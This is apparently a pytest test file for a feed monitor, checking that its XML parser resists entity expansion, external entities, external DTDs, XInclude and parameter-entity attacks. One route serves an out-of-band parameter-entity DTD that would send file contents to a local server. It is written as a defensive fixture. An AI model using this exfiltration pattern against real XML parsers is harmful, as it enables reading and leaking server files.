"""Promise 6 (issue 5): XML attacks do nothing.

The documents in tests/data/xml_attacks/ try entity expansion (billion laughs, quadratic
blowup), external entities (file:///etc/passwd, and http:// on our own server), an external
DTD (SYSTEM and PUBLIC), parameter entities (the out-of-band exfiltration pattern) and XInclude,
in RSS and Atom. `{{PORT}}` in a document is replaced with the test server's port, so a fetch
of any entity or DTD would show on the wire.

Each document is parsed in-process (time and traced memory measured), and all of them are
polled by the installed `monitor poll` in a subprocess (peak RSS from `os.wait4`, against a
baseline poll of a plain feed). Nothing expands, nothing is fetched but the feeds themselves,
and no file content reaches the database.
"""

from __future__ import annotations

import sqlite3
import time
import tracemalloc
from pathlib import Path

import pytest

from monitor.parse import parse_feed
from tests.feedserver import FeedServer
from tests.rss import TALKS, rss
from tests.test_robust_faults import MB, poll_peak_rss

DATA = Path(__file__).parent / "data" / "xml_attacks"
ATTACKS = sorted(p.name for p in DATA.glob("*.xml"))
SECRET_PATHS = ("/secret", "/evil.dtd", "/param.dtd", "/rss-0.91.dtd")
CANARY = "CANARY"
# What /etc/passwd (or the server's secret) would put in an entry.
LEAKS = ("root:", "/bin/", "nologin", CANARY)


def attack(name: str, port: int) -> bytes:
    """The attack document `name` with its entity and DTD URLs pointing at `port`."""
    return (DATA / name).read_bytes().replace(b"{{PORT}}", str(port).encode())


def add_secrets(server: FeedServer) -> None:
    """Routes an expanded entity or a fetched DTD would hit (they must never be asked for)."""
    server.add("/secret", body=f"root:x:0:0:{CANARY}-SECRET:/root:/bin/bash\n".encode())
    server.add("/evil.dtd", body=f'<!ENTITY canary "{CANARY}-DTD">'.encode())
    server.add(
        "/param.dtd",
        body=(
            '<!ENTITY % intern "<!ENTITY &#37; exfil SYSTEM '
            f"'http://127.0.0.1:{server.port}/secret?d=%file;'>\">"
        ).encode(),
    )
    server.add("/rss-0.91.dtd", body=f'<!ENTITY canary "{CANARY}-PUBLIC">'.encode())


def test_attack_documents_are_all_there() -> None:
    assert len(ATTACKS) == 9  # a lost fixture must not pass silently
    assert all(b"<!DOCTYPE" in (DATA / n).read_bytes() or "xinclude" in n for n in ATTACKS)


@pytest.mark.parametrize("name", ATTACKS)
def test_parse_expands_and_fetches_nothing(name: str) -> None:
    with FeedServer() as server:
        add_secrets(server)
        body = attack(name, server.port)
        tracemalloc.start()
        started = time.monotonic()
        try:
            parsed = parse_feed(
                body, {"content-type": "application/rss+xml"}, feed_url=server.url("/feed.xml")
            )
            elapsed = time.monotonic() - started
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert server.requests == []
    assert elapsed < 2.0
    assert peak < 20 * MB  # a billion laughs expanded is 3 GB; a quadratic blowup 250 MB
    texts = [parsed.title] + [
        f"{e.title} {e.summary} {e.content} {e.author} {e.url}" for e in parsed.entries
    ]
    for text in texts:
        assert "lollollol" not in text and "AAAAAAAAAA" not in text
        for leak in LEAKS:
            assert leak not in text, (leak, text[:200])
    # The document's ordinary item is still read: the attack costs the feed nothing else.
    assert [e.title.split(" ")[:2] for e in parsed.entries] == [["Istanbul", "talks"]]


def test_poll_of_every_attack_fetches_nothing_and_stays_small(tmp_path: Path) -> None:
    with FeedServer() as server:
        add_secrets(server)
        plain = server.add("/plain.xml", body=rss(TALKS))
        urls = [server.add(f"/{name}", body=attack(name, server.port)) for name in ATTACKS]
        base_dir, attack_dir = tmp_path / "base", tmp_path / "attack"
        base_dir.mkdir()
        attack_dir.mkdir()
        for folder, feeds in ((base_dir, [plain]), (attack_dir, urls)):
            lines = ["settings:", "  timezone: UTC", "  total_timeout: 10s", "feeds:"]
            for i, url in enumerate(feeds):
                lines += [f"  - url: {url}", f"    name: Feed {i}"]
            (folder / "feeds.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
        base_rss, _, base_err, base_code = poll_peak_rss(base_dir / "feeds.yaml")
        started = time.monotonic()
        peak, out, err, code = poll_peak_rss(attack_dir / "feeds.yaml")
        wall = time.monotonic() - started
        asked = sorted({r.path for r in server.requests})
    assert base_code == 0, base_err
    assert code == 0, err
    print(f"\nXML attacks: {out.strip()}; {wall:.1f}s; peak RSS {peak / MB:.0f} MB")
    print(f"baseline peak RSS {base_rss / MB:.0f} MB")
    assert asked == sorted(["/plain.xml"] + [f"/{n}" for n in ATTACKS])
    for path in SECRET_PATHS:
        assert path not in asked
    assert wall < 15
    assert peak - base_rss < 50 * MB
    db = sqlite3.connect(attack_dir / "monitor.db")
    try:
        rows = db.execute("SELECT title, summary, content, author, url FROM entries").fetchall()
        feeds = db.execute("SELECT title, last_error, problem, last_attempt FROM feeds").fetchall()
    finally:
        db.close()
    assert len(rows) == len(ATTACKS)  # each attack's ordinary item stored, once
    assert all(f[3] is not None for f in feeds)  # every feed has an outcome
    for row in rows + feeds:
        text = " ".join(str(v) for v in row)
        for leak in LEAKS:
            assert leak not in text, (leak, text[:200])
        assert "lollollol" not in text and "AAAAAAAAAA" not in text
